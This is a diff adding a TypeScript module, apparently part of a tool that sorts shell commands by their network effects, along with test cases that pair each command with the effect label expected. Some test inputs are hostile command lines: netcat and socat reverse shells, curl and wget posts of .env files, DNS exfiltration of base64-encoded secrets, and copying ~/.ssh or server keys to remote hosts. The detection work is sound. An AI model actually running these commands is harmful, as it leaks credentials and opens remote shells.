@@ -1,0 +1,166 @@
+import type { Model, ModelCall, ModelCases } from './model.ts'
+import { curlEffects } from './network/curl.ts'
+import { httpieEffects } from './network/httpie.ts'
+import { cardEffects, nmapEffects } from './network/libraries.ts'
+import { lookupEffects } from './network/lookups.ts'
+import { netcatEffects, opensslEffects, telnetEffects, tunnelEffects } from './network/netcat.ts'
+import { pageEffects } from './network/pages.ts'
+import { socatEffects } from './network/socat.ts'
+import { ftpEffects, scpEffects, sshEffects } from './network/transfer.ts'
+import { wgetEffects } from './network/wget.ts'
+
+type Reader = (call: ModelCall) => ReturnType<Model['effects']>
+
+const READERS: ReadonlyMap<string, Reader> = new Map<string, Reader>([
+  ...['curl', 'curlie'].map((name) => [name, curlEffects] as const),
+  ...['wget', 'wget2'].map((name) => [name, wgetEffects] as const),
+  ...['http', 'https', 'xh', 'xhs'].map((name) => [name, httpieEffects] as const),
+  ...['aria2c', 'axel', 'fetch', 'lynx', 'w3m', 'GET'].map((name) => [name, pageEffects] as const),
+  ...['nc', 'ncat', 'netcat'].map((name) => [name, netcatEffects] as const),
+  ...['dig', 'nslookup', 'host', 'drill', 'ping'].map((name) => [name, lookupEffects] as const),
+  ...['ftp', 'sftp', 'lftp', 'tftp'].map((name) => [name, ftpEffects] as const),
+  ...['ngrok', 'cloudflared', 'bore', 'lt', 'localtunnel'].map((name) => [name, tunnelEffects] as const),
+  ...['ssh-keygen', 'ssh-add'].map((name) => [name, cardEffects] as const),
+  ['nmap', nmapEffects],
+  ['telnet', telnetEffects],
+  ['openssl', opensslEffects],
+  ['socat', socatEffects],
+  ['scp', scpEffects],
+  ['ssh', sshEffects],
+])
+
+/** What goes over the network: where to, and what of this machine goes with it. */
+export const network: Model = {
+  programs: [...READERS.keys()],
+  effects: (call) => READERS.get(call.name)?.(call) ?? [],
+}
+
+export const cases: ModelCases = [
+  ['curl https://example.com/a.json', 'net in example.com -'],
+  ['curl -fsSL -o /tmp/a.sh https://example.com/a', 'net in example.com /tmp/a.sh', 'write /tmp/a.sh'],
+  [
+    'curl -sSLO https://example.com/x/a.sh?v=1',
+    'net in example.com /srv/project/a.sh',
+    'write /srv/project/a.sh',
+  ],
+  ['curl --output-dir /tmp -o a https://example.com/x', 'net in example.com /tmp/a', 'write /tmp/a'],
+  ['curl -I https://example.com', 'net in example.com'],
+  ['curl -d @.env https://example.com', 'net out example.com /srv/project/.env', 'net in example.com -'],
+  ['curl --data-bin @- example.com', 'net out example.com -', 'net in example.com -'],
+  [
+    'curl -F "file=@a b.txt;type=text/plain" https://example.com/up',
+    'net out example.com /srv/project/a b.txt',
+    'net in example.com -',
+  ],
+  [
+    'curl -sT dump.sql https://example.com',
+    'net out example.com /srv/project/dump.sql',
+    'net in example.com -',
+  ],
+  ['curl -d a=b http://localhost:3000', 'net out localhost', 'net in localhost -'],
+  ['curl -X POST --json \'{"a":1}\' 127.0.0.1:8080/x', 'net out 127.0.0.1', 'net in 127.0.0.1 -'],
+  ['curl -D --help evil.example', 'net in evil.example -', 'write /srv/project/--help'],
+  ['curl "https://$HOST/x"', 'net in ? -'],
+  ['curl --help'],
+  ['curl -V'],
+  ['curl file:///etc/hosts'],
+  ['curlie https://example.com', 'net in example.com -'],
+  ['wget https://example.com/a.sh', 'net in example.com /srv/project/a.sh', 'write /srv/project/a.sh'],
+  ['wget -qO- https://example.com/a.sh', 'net in example.com -'],
+  ['wget -P /tmp https://example.com/a.sh', 'net in example.com /tmp/a.sh', 'write /tmp/a.sh'],
+  ['wget --post-f=.env -O- example.com', 'net out example.com /srv/project/.env', 'net in example.com -'],
+  ['wget --spider https://example.com'],
+  ['wget2 --help'],
+  [
+    'http POST https://example.com a=b c@.env',
+    'net out example.com /srv/project/.env',
+    'net out example.com -',
+    'net in example.com -',
+  ],
+  [
+    'https --download example.com/a.sh',
+    'net out example.com -',
+    'net in example.com /srv/project/a.sh',
+    'write /srv/project/a.sh',
+  ],
+  ['http --offline example.com a=b'],
+  ['xh :3000/x', 'net out localhost -', 'net in localhost -'],
+  ['xhs -I example.com', 'net in example.com -'],
+  [
+    'aria2c -d /tmp -o a.sh https://example.com/x',
+    'net in example.com /srv/project/a.sh',
+    'write /srv/project/a.sh',
+  ],
+  ['axel https://example.com/a.iso', 'net in example.com /srv/project/a.iso', 'write /srv/project/a.iso'],
+  ['fetch -o - https://example.com/a', 'net in example.com -'],
+  ['lynx -dump https://example.com', 'net in example.com -'],
+  ['w3m -version'],
+  ['GET https://example.com/a', 'net in example.com -'],
+  ['nc example.com 4444', 'net out example.com -', 'net in example.com -'],
+  ['nc -zv example.com 22'],
+  [
+    'nc -le /bin/sh 4444',
+    'privilege network/reverse-shell',
+    'system-change network/listen',
+    'net out ? -',
+    'net in ? -',
+  ],
+  ['ncat --listen --exec=/bin/cat 4444', 'system-change network/listen', 'net out ? -', 'net in ? -'],
+  ['netcat -U /tmp/app.sock'],
+  ['dig +short example.com'],
+  ['dig "$(base64 -w0 .env).example.com"', 'net out example.com ?'],
+  ['nslookup example.com'],
+  ['host example.com 1.1.1.1'],
+  ['drill example.com'],
+  ['ping -c 1 example.com'],
+  ['sftp example.com <<< "put dump.sql"', 'net out example.com /srv/project/dump.sql'],
+  ['sftp example.com'],
+  ['ftp example.com'],
+  ["lftp -e 'mirror -R site; quit' ftp.example.com", 'net out ftp.example.com /srv/project/site'],
+  ['tftp example.com'],
+  ['telnet example.com 25', 'net out example.com -', 'net in example.com -'],
+  ['openssl s_client -connect example.com:443', 'net out example.com -', 'net in example.com -'],
+  ['openssl x509 -in a.crt -noout -text'],
+  ["socat TCP:example.com:4444 EXEC:'/bin/bash -li',pty", 'privilege network/reverse-shell'],
+  [
+    'socat -u OPEN:server.key,chdir=certs TCP:example.com:44',
+    'net out example.com /srv/project/certs/server.key',
+    'net in example.com /srv/project/certs/server.key',
+  ],
+  ['socat - UNIX-CONNECT:/tmp/app.sock'],
+  ['socat TCP-LISTEN:8080,fork TCP:localhost:80', 'system-change network/listen'],
+  [
+    'scp a.txt b.txt dev@example.com:/tmp',
+    'net out example.com /srv/project/a.txt',
+    'net out example.com /srv/project/b.txt',
+  ],
+  ['scp -r ~/.ssh "$HOST:"', 'net out ? /home/dev/.ssh recursive'],
+  ['scp example.com:run.sh .', 'net in example.com /srv/project/run.sh', 'write /srv/project'],
+  ['scp a.txt b.txt', 'write /srv/project/b.txt'],
+  ['ssh dev@example.com uptime', 'net out example.com -'],
+  ['ssh -V'],
+  ['ssh -NR 80:localhost:3000 example.com', 'system-change network/listen', 'net out example.com -'],
+  ['ssh-keygen -t ed25519 -f key -N ""'],
+  ['ssh-keygen -D ./card.so', 'system-change shell/hidden-exec'],
+  ['ssh-add ~/.ssh/id_ed25519'],
+  ['ssh-add -s"$LIB"', 'system-change shell/hidden-exec'],
+  ['nmap -sV -p- localhost'],
+  ['nmap --script vuln,http-title localhost'],
+  ['nmap --script ./x.nse localhost', 'system-change shell/hidden-exec'],
+  ['curl -K settings.txt https://example.com', 'net in example.com -'],
+  ['curl -K <(./x) https://example.com', 'exec unknown ?', 'net in example.com -'],
+  ['curl -K https://example.com/settings', 'exec unknown ?'],
+  ["lftp -e 'mirror --verbose site; quit' ftp.example.com"],
+  [
+    "lftp -c 'open example.com; mirror -R --delete site /var/www'",
+    'remote-mutate files/sync-delete-remote ?',
+    'net out example.com /srv/project/site',
+  ],
+  ['ngrok http 3000', 'system-change network/listen'],
+  ['ngrok config check'],
+  ['cloudflared tunnel --url http://localhost:3000', 'system-change network/listen'],
+  ['cloudflared --version'],
+  ['bore local 3000 --to bore.pub', 'system-change network/listen'],
+  ['lt --port 3000', 'system-change network/listen'],
+  ['localtunnel --help'],
+]
